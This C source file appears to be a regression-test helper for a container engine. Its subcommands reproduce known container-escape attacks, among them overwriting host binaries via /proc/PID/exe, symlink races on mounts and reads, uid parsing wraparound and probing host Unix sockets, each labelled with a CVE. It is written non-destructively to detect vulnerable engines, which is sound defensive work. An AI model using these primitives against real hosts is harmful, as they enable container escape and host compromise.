/*
 * Attacks that container engines have fallen for, and the naive operations that they work against.
 *
 *   thief FILE                     writes to the program of each process that is not the container's own, until FILE is there (CVE-2019-5736)
 *   file-capability FILE           gives the file cap_net_raw+ei (CVE-2022-24769)
 *   mount-by-name TARGET CANARY N  mounts on a path by its name until 10 mounts were on CANARY, at most N times (CVE-2021-30465)
 *   copy-by-name FILE N            looks at a path, then reads it by its name, until 10 times it was the host's, at most N times (CVE-2018-15664)
 *   user-by-atoi NUMBER            becomes a user as a parser that wraps understands it (CVE-2024-40635)
 *   connect-all                    connects to every socket in /proc/net/unix (CVE-2020-15257)
 *   hold-lock FILE                 locks a file that it can only read, until its input ends
 *   listen NAME                    listens at an abstract socket until its input ends
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/magic.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/xattr.h>
#include <unistd.h>

/* Foreign programs, held by descriptors until nobody runs them any more. */
#define HELD_MAX 256
static struct {
  int fd;
  dev_t device;
  ino_t inode;
} held[HELD_MAX];
static int holding;

static void hold(int fd) {
  struct stat status;
  int known = fstat(fd, &status) || holding == HELD_MAX;
  for (int i = 0; i < holding && !known; i++) known = held[i].device == status.st_dev && held[i].inode == status.st_ino;
  if (known) {
    close(fd);
    return;
  }
  held[holding].device = status.st_dev;
  held[holding].inode = status.st_ino;
  held[holding++].fd = fd;
}

static void hold_program_of(const char *pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd >= 0) hold(fd);
}

/* Writes the first byte again: what could be overwritten is not damaged. */
static int overwrite(int fd) {
  char path[64], byte;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int readable = open(path, O_RDONLY | O_CLOEXEC), writable = open(path, O_WRONLY | O_CLOEXEC);
  int done = pread(readable, &byte, 1, 0) == 1 && pwrite(writable, &byte, 1, 0) == 1;
  close(readable);
  close(writable);
  return done;
}

static int thief(const char *stop) {
  int overwritten[HELD_MAX] = {0}, count = 0;
  /* The container's own. */
  hold_program_of("self");
  hold(open("/bin/busybox", O_PATH | O_CLOEXEC));
  int own = holding, told = holding;
  puts("looking");
  for (int rounds = 3; rounds > 0; rounds -= !access(stop, F_OK)) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes && (entry = readdir(processes));)
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') hold_program_of(entry->d_name);
    if (processes) closedir(processes);
    if (holding > told) puts("saw");
    told = holding;
    for (int i = own; i < holding; i++)
      if (!overwritten[i] && overwrite(held[i].fd)) overwritten[i] = ++count;
  }
  printf("seen %d, overwritten %d\n", holding - own, count);
  return 0;
}

static int file_capability(const char *path) {
  struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, .data = {{.inheritable = 1 << CAP_NET_RAW}}};
  return setxattr(path, "security.capability", &data, XATTR_CAPS_SZ_2, 0) ? 1 : 0;
}

static int mount_by_name(const char *target, const char *canary, long tries) {
  long made = 0, escaped = 0;
  if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) return 1;
  for (long i = 0; i < tries && escaped < 10; i++) {
    struct stat status;
    struct statfs system;
    /* The check that engines made. */
    if (lstat(target, &status) || !S_ISDIR(status.st_mode)) continue;
    if (mount("tmpfs", target, "tmpfs", 0, NULL)) continue;
    made++;
    if (!statfs(canary, &system) && system.f_type == TMPFS_MAGIC && !umount2(canary, MNT_DETACH)) escaped++;
  }
  printf("made %ld, escaped %ld\n", made, escaped);
  return 0;
}

static int copy_by_name(const char *path, long tries) {
  long read_of = 0, escaped = 0;
  for (long i = 0; i < tries && escaped < 10; i++) {
    char resolved[PATH_MAX], bytes[64] = "";
    if (!realpath(path, resolved) || strcmp(resolved, path)) continue;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (read(fd, bytes, sizeof bytes - 1) > 0) read_of++;
    if (strstr(bytes, "of the host")) escaped++;
    close(fd);
  }
  printf("made %ld, escaped %ld\n", read_of, escaped);
  return 0;
}

static int user_by_atoi(const char *text) {
  if (setuid((uid_t)strtol(text, NULL, 0))) return 1;
  printf("%u\n", getuid());
  return 0;
}

static int reach(const char *name, int type) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t length = strnlen(name, sizeof address.sun_path - 1);
  memcpy(address.sun_path, name, length);
  if (name[0] == '@') address.sun_path[0] = 0;
  int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
  int error = connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length));
  close(fd);
  return error;
}

static int connect_all(void) {
  char line[600], name[500];
  int type;
  FILE *sockets = fopen("/proc/net/unix", "r");
  if (!sockets) return 1;
  while (fgets(line, sizeof line, sockets))
    if (sscanf(line, "%*s %*s %*s %*s %d %*s %*s %499s", &type, name) == 2) printf("%s %s\n", reach(name, type) ? "refused" : "reached", name);
  return 0;
}

static int wait_for_end(const char *what) {
  puts(what);
  for (char byte; read(0, &byte, 1) > 0;) continue;
  return 0;
}

static int hold_lock(const char *path) {
  struct flock lock = {.l_type = F_RDLCK, .l_whence = SEEK_SET};
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || fcntl(fd, F_SETLK, &lock)) return 1;
  return wait_for_end("held");
}

static int listen_at(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t length = strlen(name);
  memcpy(address.sun_path + 1, name, length);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)) || listen(fd, 4)) return 1;
  return wait_for_end("listening");
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && !strcmp(what, "thief")) return thief(argv[2]);
  if (argc == 3 && !strcmp(what, "file-capability")) return file_capability(argv[2]);
  if (argc == 5 && !strcmp(what, "mount-by-name")) return mount_by_name(argv[2], argv[3], atol(argv[4]));
  if (argc == 4 && !strcmp(what, "copy-by-name")) return copy_by_name(argv[2], atol(argv[3]));
  if (argc == 3 && !strcmp(what, "user-by-atoi")) return user_by_atoi(argv[2]);
  if (argc == 2 && !strcmp(what, "connect-all")) return connect_all();
  if (argc == 3 && !strcmp(what, "hold-lock")) return hold_lock(argv[2]);
  if (argc == 3 && !strcmp(what, "listen")) return listen_at(argv[2]);
  return 2;
}
